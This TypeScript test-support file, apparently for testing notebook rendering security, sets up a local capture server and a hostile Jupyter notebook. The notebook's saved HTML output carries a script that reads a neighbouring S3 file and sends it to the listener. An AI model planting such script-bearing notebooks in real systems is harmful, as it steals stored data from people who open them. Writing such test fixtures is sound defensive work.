import { once } from 'node:events';
import http from 'node:http';
import type { AddressInfo } from 'node:net';

/** A server on this machine that somebody's script would send what it finds to. */
export interface Listener {
  /** What it was sent since the last {@link clear}. */
  readonly heard: readonly string[];
  readonly url: string;
  /** Resolves when something was sent. */
  next(): Promise<void>;
  clear(): void;
  close(): Promise<void>;
}

export async function startListener(): Promise<Listener> {
  const heard: string[] = [];
  const server = http.createServer(({ url = '' }, response) => {
    heard.push(decodeURIComponent(url));
    response.setHeader('access-control-allow-origin', '*');
    response.end();
    server.emit('heard');
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    heard,
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`,
    next: async () => {
      if (heard.length === 0) await once(server, 'heard');
    },
    clear: () => void heard.splice(0),
    close: async () => {
      server.close();
      await once(server, 'close');
    },
  };
}

/** A notebook whose saved output is a script, which tells the listener that it runs and what stands beside it in S3. */
export function hostileNotebook(listener: Listener, neighbour: string): string {
  const script = `
    const tell = (text) => { new Image().src = ${JSON.stringify(listener.url)} + encodeURIComponent(text); };
    tell('runs');
    fetch(new URL(${JSON.stringify(neighbour)}, document.baseURI)).then((r) => r.text()).then(tell, () => undefined);`;
  const output = {
    output_type: 'display_data',
    metadata: {},
    data: { 'text/html': [`<b>Report</b><script>${script}</script>`] },
  };
  const cell = { id: 'a', cell_type: 'code', execution_count: 1, metadata: {}, source: ['1'], outputs: [output] };
  return JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells: [cell] });
}
